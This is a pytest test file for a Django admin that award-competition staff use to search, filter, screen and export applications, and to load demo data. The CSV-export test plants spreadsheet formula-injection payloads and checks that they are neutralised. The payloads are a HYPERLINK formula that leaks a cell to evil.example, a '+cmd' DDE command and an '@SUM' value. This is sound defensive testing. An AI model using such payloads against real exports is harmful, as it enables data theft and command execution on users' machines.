"""The secretariat's work in the Django admin: overview, filters, search, CSV export, screening; and the demo data."""
import csv
import io

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.core import mail
from django.core.management import call_command

from applications import services
from applications.models import ApplicantProfile, Application, Category, Edition
from audit.models import AuditEntry
from tests.factories import ApplicantProfileFactory, ApplicationFactory, UserFactory
from tests.files import pdf_bytes

pytestmark = pytest.mark.django_db
CHANGELIST = "/admin/applications/application/"


def submitted(application):
    return services.submit_application(application=application, user=application.applicant.user)


@pytest.fixture
def entries(edition, alice, bob):
    """Alice (Beyoğlu, a city, TR) submitted one and drafts another; Bob (Ankara, a company) submitted one;
    a Korean institution submitted one in Human-CentriCity."""
    human = edition.categories.get(slug="human-centricity")
    seoul = ApplicantProfileFactory(user=UserFactory(email="digital@seoul.example"), applicant_type="institution",
                                    name="서울디지털재단 Seoul Digital Foundation", country="KR", city="서울특별시")
    return {
        "alice": submitted(ApplicationFactory(edition=edition, applicant=alice,
                                              title="Su kaçaklarını bulan sensörler")),
        "alice_draft": ApplicationFactory(edition=edition, applicant=alice, title="Taslak: akıllı otopark"),
        "bob": submitted(ApplicationFactory(edition=edition, applicant=bob, title="Autonomous night buses")),
        "seoul": submitted(ApplicationFactory(edition=edition, applicant=seoul, category=human,
                                              title="디지털 배움터 Digital learning for seniors")),
    }


def rows_of(response):
    """The titles in the changelist's result table."""
    html = response.content.decode()
    return {title for title in ("Su kaçaklarını bulan sensörler", "Taslak: akıllı otopark", "Autonomous night buses",
                                "디지털 배움터 Digital learning for seniors") if title in html}


def run_action(client, action, applications, follow=False, **extra):
    return client.post(CHANGELIST, {"action": action, ACTION_CHECKBOX_NAME: [a.pk for a in applications],
                                    "index": 0, **extra}, follow=follow)


def test_the_admin_index_shows_the_current_edition_at_a_glance(sofia_client, entries, edition):
    services.withdraw_application(application=entries["bob"], user=entries["bob"].applicant.user)
    response = sofia_client.get("/admin/")
    assert response.status_code == 200
    html = response.content.decode()
    assert 'id="edition-overview"' in html and str(edition) in html and "KST" in html
    assert "<strong>1</strong> drafts · <strong>2</strong> submitted in all (including screened) · <strong>1</strong> withdrawn" in html
    overview = response.context["edition_overview"]
    tables = dict(overview["tables"])
    assert {row["label"]: row["count"] for row in tables["Entered, by category"]} == {
        "Tech-InnovaCity": 1, "Human-CentriCity": 1}
    assert {row["label"]: row["count"] for row in tables["Entered, by applicant type"]} == {
        "City (local government)": 1, "Institution": 1}
    assert {str(row["label"]): row["count"] for row in tables["Entered, by country"]} == {
        "Türkiye": 1, "South Korea": 1}


def test_an_applicant_cannot_open_the_admin(alice_client, entries):
    response = alice_client.get(CHANGELIST)
    assert response.status_code == 302 and response["Location"].startswith("/admin/login/")


@pytest.mark.parametrize(("query", "expected"), [
    ("q=Beyoğlu", {"Su kaçaklarını bulan sensörler", "Taslak: akıllı otopark"}),  # applicant's name or city
    ("q=Ankara", {"Autonomous night buses"}),
    ("q=서울특별시", {"디지털 배움터 Digital learning for seniors"}),  # city
    ("q=night+buses", {"Autonomous night buses"}),  # title
    ("q=SSCP-2027-0003", {"디지털 배움터 Digital learning for seniors"}),  # reference
    ("status__exact=draft", {"Taslak: akıllı otopark"}),
    ("applicant__applicant_type__exact=company", {"Autonomous night buses"}),
    ("applicant__country__exact=KR", {"디지털 배움터 Digital learning for seniors"}),
    ("category__name=Human-CentriCity", {"디지털 배움터 Digital learning for seniors"}),
    ("edition__id__exact={edition}", {"Su kaçaklarını bulan sensörler", "Taslak: akıllı otopark",
                                      "Autonomous night buses", "디지털 배움터 Digital learning for seniors"}),
    ("status__exact=submitted&applicant__country__exact=TR", {"Su kaçaklarını bulan sensörler",
                                                              "Autonomous night buses"}),
])
def test_the_secretariat_filters_and_searches_applications(sofia_client, entries, edition, query, expected):
    response = sofia_client.get(f"{CHANGELIST}?{query.format(edition=edition.pk)}")
    assert response.status_code == 200  # an unknown filter would redirect with ?e=1
    assert rows_of(response) == expected


def test_the_read_only_view_of_a_submitted_application_shows_its_answers_and_attachments(sofia_client, entries):
    from django.core.files.uploadedfile import SimpleUploadedFile

    application = ApplicationFactory(edition=entries["alice"].edition, applicant=entries["alice"].applicant)
    attachment = services.add_attachment(application=application,
                                         uploaded_file=SimpleUploadedFile("su-planı.pdf", pdf_bytes()))
    application = submitted(application)
    response = sofia_client.get(f"{CHANGELIST}{application.pk}/change/")
    assert response.status_code == 200
    html = response.content.decode()
    assert application.reference in html and "Warnings now arrive 40 minutes earlier." in html
    assert f'href="/attachments/{attachment.pk}/"' in html and "su-planı.pdf" in html
    assert f'href="/applications/{application.pk}/pdf/"' in html
    assert sofia_client.get(f"/attachments/{attachment.pk}/").status_code == 200


def test_the_csv_export_neutralises_spreadsheet_formulas(sofia_client, entries):
    attack = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    application = entries["alice"]
    Application.objects.filter(pk=application.pk).update(title=attack)
    ApplicantProfile.objects.filter(pk=application.applicant.pk).update(name="+cmd|' /C calc'!A0", city="@SUM(1+1)")
    response = run_action(sofia_client, "export_csv", [application, entries["bob"]])
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="applications.csv"'
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(content[1:])))
    assert len(rows) == 2
    row = next(r for r in rows if r["reference"] == application.reference)
    assert row["title"] == "'" + attack
    assert row["applicant"] == "'+cmd|' /C calc'!A0" and row["city"] == "'@SUM(1+1)"
    other = next(r for r in rows if r["reference"] == entries["bob"].reference)
    assert other["title"] == "Autonomous night buses" and other["applicant"] == "Ankara Akıllı Şehir Teknolojileri A.Ş."
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())


def test_screening_as_eligible_tells_the_applicant(sofia_client, sofia, entries, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        response = run_action(sofia_client, "screen_eligible", [entries["alice"]], follow=True)
    assert response.status_code == 200
    assert "1 application(s) screened" in response.content.decode()
    entries["alice"].refresh_from_db()
    assert entries["alice"].status == Application.Status.ELIGIBLE
    [message] = mail.outbox
    assert message.to == ["alice@beyoglu.example"] and entries["alice"].reference in message.subject
    assert "is eligible" in message.body
    assert AuditEntry.objects.filter(action="application.screened", actor=sofia).exists()


def test_not_eligible_asks_for_the_reason_first_then_tells_the_applicant(sofia_client, entries,
                                                                         django_capture_on_commit_callbacks):
    chosen = [entries["alice"], entries["bob"]]
    response = run_action(sofia_client, "screen_not_eligible", chosen)
    assert response.status_code == 200  # the intermediate page
    html = response.content.decode()
    assert "Not eligible: give the reason" in html and 'name="reason"' in html
    assert entries["alice"].reference in html and entries["bob"].reference in html
    assert {a.status for a in Application.objects.filter(pk__in=[a.pk for a in chosen])} == {"submitted"}

    response = run_action(sofia_client, "screen_not_eligible", chosen, apply="1", reason="  ")
    assert response.status_code == 200 and "This field is required." in response.content.decode()
    assert {a.status for a in Application.objects.filter(pk__in=[a.pk for a in chosen])} == {"submitted"}
    assert mail.outbox == []

    reason = "The project started after the eligibility window (before 2023-01-01)."
    with django_capture_on_commit_callbacks(execute=True):
        response = run_action(sofia_client, "screen_not_eligible", chosen, apply="1", reason=reason)
    assert response.status_code == 302 and response["Location"] == CHANGELIST
    for application in chosen:
        application.refresh_from_db()
        assert application.status == Application.Status.NOT_ELIGIBLE and application.screening_reason == reason
    assert sorted(m.to[0] for m in mail.outbox) == ["alice@beyoglu.example", "bob@ankara-tech.example"]
    assert all(reason in m.body and "not eligible" in m.body for m in mail.outbox)


def test_screening_a_draft_is_refused_with_a_warning(sofia_client, entries):
    response = run_action(sofia_client, "screen_eligible", [entries["alice_draft"]], follow=True)
    assert "only submitted applications can be screened" in response.content.decode()
    entries["alice_draft"].refresh_from_db()
    assert entries["alice_draft"].status == Application.Status.DRAFT


def test_the_secretariat_cannot_add_or_delete_applications(sofia_client, entries):
    assert sofia_client.get(f"{CHANGELIST}add/").status_code == 403
    assert sofia_client.get(f"{CHANGELIST}{entries['alice'].pk}/delete/").status_code == 403


def test_seed_demo_runs_twice_and_loads_the_current_edition(db):
    out = io.StringIO()
    call_command("seed_demo", stdout=out)
    first = (Edition.objects.count(), Application.objects.count(), ApplicantProfile.objects.count())
    call_command("seed_demo", stdout=out)
    assert (Edition.objects.count(), Application.objects.count(), ApplicantProfile.objects.count()) == first

    edition = Edition.objects.get(is_current=True)
    assert edition.status == Edition.Status.PUBLISHED and edition.is_open
    assert sorted(Category.objects.filter(edition=edition).values_list("slug", flat=True)) == [
        "human-centricity", "leadership", "tech-innovacity"]
    applications = Application.objects.filter(edition=edition)
    assert applications.filter(status=Application.Status.DRAFT, reference=None, submitted_at=None).exists()
    # Submitted ones: with a reference and a submission time (higher apps' demo data may screen them further).
    entered = applications.exclude(status__in=[Application.Status.DRAFT, Application.Status.WITHDRAWN])
    assert entered.exists() and not entered.filter(reference=None).exists()
    assert not entered.filter(submitted_at=None).exists()
    references = list(Application.objects.filter(edition=edition, reference__isnull=False)
                      .order_by("reference").values_list("reference", flat=True))
    assert references == [f"SSCP-{edition.year}-{n:04d}" for n in range(1, len(references) + 1)]
    assert set(ApplicantProfile.objects.values_list("applicant_type", flat=True)) == {
        "city", "company", "institution", "individual"}
    assert ApplicantProfile.objects.filter(name__contains="서울특별시").exists()
    printed = out.getvalue()
    assert "secretariat@demo.example" in printed and "Demo logins" in printed
